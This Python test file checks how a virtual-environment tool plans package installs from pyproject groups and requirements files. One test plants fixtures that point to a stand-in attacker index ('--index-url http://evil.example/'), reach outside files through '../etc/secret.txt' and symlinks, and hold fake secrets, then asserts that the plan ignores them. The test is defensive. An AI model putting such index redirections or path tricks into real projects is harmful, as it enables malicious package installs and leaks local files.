"""What a plan installs and from where (issue 11 "What create installs", issue 12 item 2): the default development
set with its reasons, ``--only-main``/``--with-group``, one entry per package in fix plans, only files inside the
project, every source file named, index options from files needing consent. Plans only: nothing runs here."""

from __future__ import annotations

from pathlib import Path

import pytest

from support.wheels import make_venv
from test_actions_support import write_files
from venvsense.actions import Options, plan_create
from venvsense.actions.planning import plan_fix
from venvsense.check import check_project
from venvsense.environment import clear_cache
from venvsense.model import project_at

PYPROJECT = """\
[project]
name = "app"
version = "1.0"
dependencies = ["alpha"]

[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"

[dependency-groups]
dev = ["ruff-like"]
test = ["checker>=2", {include-group = "dev"}]
lint = ["linter"]
"""


def plan_for(root: Path, **options: object):  # type: ignore[no-untyped-def]
    clear_cache()
    return plan_create(check_project(project_at(root)), Options(installer="pip", **options))  # type: ignore[arg-type]


def install_args(plan) -> list[str]:  # type: ignore[no-untyped-def]
    return list(plan.steps[-1].argv) if plan.steps[-1].phase == "install" else []


def test_create_installs_the_dev_and_test_groups_and_dev_requirement_files_with_reasons(tmp_path: Path) -> None:
    root = write_files(tmp_path / "proj", {
        "pyproject.toml": PYPROJECT,
        "requirements-dev.txt": "devtool\n",
        "requirements/test-extra.txt": "fixturekit\n",
        "requirements-docs.txt": "docbuilder\n",
    })
    plan = plan_for(root)
    args = install_args(plan)
    assert "checker>=2" in args and "ruff-like" in args and args.count("ruff-like") == 1  # dev, and test's include
    assert "linter" not in args  # a group nobody installs by default
    assert str(root / "requirements-dev.txt") in args and str(root / "requirements" / "test-extra.txt") in args
    assert str(root / "requirements-docs.txt") not in args
    why = "\n".join(plan.reasons)
    assert "group 'dev' (ruff-like): uv installs the 'dev' group by default" in why
    assert "group 'test' (" in why and "a PEP 735 development group" in why
    assert "-r requirements-dev.txt: a development requirements file" in why
    assert "--only-main leaves it out" in why
    assert {"pyproject.toml", "requirements-dev.txt", "requirements/test-extra.txt"} <= set(plan.sources)
    text = plan.describe()
    assert "  Why:" in text and "  From files: " in text

    main_only = plan_for(root, only_main=True)
    assert [a for a in install_args(main_only) if not a.startswith("-")][-1].endswith("proj")  # -e . only
    assert "checker>=2" not in install_args(main_only) and "devtool" not in "".join(main_only.reasons)

    with_lint = plan_for(root, only_main=True, groups=("lint",))
    assert "linter" in install_args(with_lint) and "checker>=2" not in install_args(with_lint)
    assert "group 'lint' (linter): asked for with --with-group" in with_lint.reasons


def test_uv_default_groups_and_poetry_groups_decide_the_default_set(tmp_path: Path) -> None:
    root = write_files(tmp_path / "uvproj", {"pyproject.toml": (
        '[project]\nname = "u"\nversion = "1"\ndependencies = []\n'
        '[dependency-groups]\ndev = ["devonly"]\ndocs = ["docbuilder"]\n'
        '[tool.uv]\ndefault-groups = ["docs"]\n')})
    args = install_args(plan_for(root))
    assert "docbuilder" in args and "devonly" in args  # default-groups, and uv's dev

    poetry = write_files(tmp_path / "poetryproj", {"pyproject.toml": (
        '[tool.poetry]\nname = "p"\nversion = "1"\n[tool.poetry.dependencies]\npython = "^3.9"\nalpha = "*"\n'
        '[tool.poetry.group.test.dependencies]\nchecker = "*"\n'
        '[tool.poetry.group.docs]\noptional = true\n[tool.poetry.group.docs.dependencies]\ndocbuilder = "*"\n')})
    plan = plan_for(poetry)
    args = install_args(plan)
    assert "checker" in args and "docbuilder" not in args
    assert any("Poetry group not marked optional" in r for r in plan.reasons)


def test_fix_plan_lists_each_package_once_with_why(tmp_path: Path) -> None:
    root = write_files(tmp_path / "proj", {
        "requirements.txt": "asgiref\nalpha==1.0\n",
        "pyproject.toml": '[project]\nname = "app"\nversion = "1"\ndependencies = ["asgiref>=3.2"]\n',
    })
    make_venv(root / ".venv")
    clear_cache()
    plan = plan_fix(check_project(project_at(root)), Options(installer="pip"))
    assert plan is not None and plan.action == "install"
    args = list(plan.steps[0].argv)
    assert args.count("asgiref>=3.2") == 1 and "asgiref" not in args
    assert plan.requirements.count("asgiref>=3.2") == 1 and "asgiref" not in plan.requirements
    reason = next(r for r in plan.reasons if r.startswith("asgiref>=3.2:"))
    assert "not installed" in reason and "requirements.txt line 1" in reason and "pyproject.toml line" in reason
    assert set(plan.sources) == {"requirements.txt", "pyproject.toml"}


def test_files_outside_the_project_contribute_nothing(tmp_path: Path) -> None:
    outside = write_files(tmp_path / "etc", {
        "passwd": "--index-url http://evil.example/\nhostname-secret\n",
        "secret.txt": "machine-id-secret\n--extra-index-url http://evil.example/x\n",
    })
    root = write_files(tmp_path / "proj", {
        "requirements.txt": "alpha\n-r ../etc/secret.txt\n",
        "pyproject.toml": '[tool.venvsense]\nrequirements = ["etclink/*"]\n',
    })
    (root / "etclink").symlink_to(outside)
    (root / "requirements-dev.txt").symlink_to(outside / "passwd")
    plan = plan_for(root)
    argv = " ".join(install_args(plan))
    assert "alpha" in argv
    for secret in ("evil.example", "hostname-secret", "machine-id-secret", "passwd", "secret.txt"):
        assert secret not in argv, secret
    assert "-r" not in install_args(plan)  # requirements.txt includes an outside file: its entries are listed
    assert not plan.index and "evil" not in plan.describe().split("Note:")[0]
    notes = "\n".join(plan.notes)
    assert "requirements.txt includes ../etc/secret.txt, outside the project" in notes
    # requirements-dev.txt, a link leading out, is no manifest of the project at all (tests/test_walk.py)
    assert plan.sources == ("requirements.txt",)


def test_an_index_option_of_a_project_file_needs_consent_and_the_person_s_own_does_not(tmp_path: Path) -> None:
    root = write_files(tmp_path / "proj", {"requirements.txt": "--extra-index-url https://mirror.example/simple\n"
                                                              "alpha\n"})
    plan = plan_for(root)
    assert [str(s) for s in plan.index_to_confirm] == ["--extra-index-url https://mirror.example/simple"]
    assert "needs your explicit consent" in plan.describe()
    clean = write_files(tmp_path / "clean", {"requirements.txt": "alpha\n"})
    own = plan_for(clean, index_url="https://mine.example/simple", no_index=False)
    assert own.index and not own.index_to_confirm


@pytest.mark.parametrize("flag", ["--only-main", "--allow-index-url"])
def test_the_cli_knows_the_new_flags(flag: str) -> None:
    from venvsense.cli import build_parser  # the parser as `venvsense` builds it

    args = build_parser().parse_args(["create", flag])
    assert getattr(args, flag[2:].replace("-", "_")) is True


def test_runtime_dependencies_of_pyproject_that_requirements_txt_does_not_name_are_installed(tmp_path: Path) -> None:
    pyproject = ('[project]\nname = "app"\nversion = "1"\ndependencies = ["alpha", "beta>=1"]\n'
                 '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n')
    root = write_files(tmp_path / "built", {"requirements.txt": "alpha==1.0\n", "pyproject.toml": pyproject})
    plan = plan_for(root)
    args = install_args(plan)
    assert args[-4:] == ["-r", str(root / "requirements.txt"), "-e", str(root)]
    assert any(r.startswith("-e .: the project itself") and "beta" in r for r in plan.reasons)

    itself = write_files(tmp_path / "itself", {"requirements.txt": "-e .\nalpha==1.0\n", "pyproject.toml": pyproject})
    assert install_args(plan_for(itself))[-2:] == ["-r", str(itself / "requirements.txt")]

    listed = write_files(tmp_path / "listed", {"requirements.txt": "alpha==1.0\n", "pyproject.toml": (
        '[project]\nname = "app"\nversion = "1"\ndependencies = ["alpha", "beta>=1"]\n')})
    plan = plan_for(listed)
    assert install_args(plan)[-1] == "beta>=1" and "alpha" not in install_args(plan)[-1]
    assert "beta>=1: declared in pyproject.toml and not named by the main requirements file" in plan.reasons
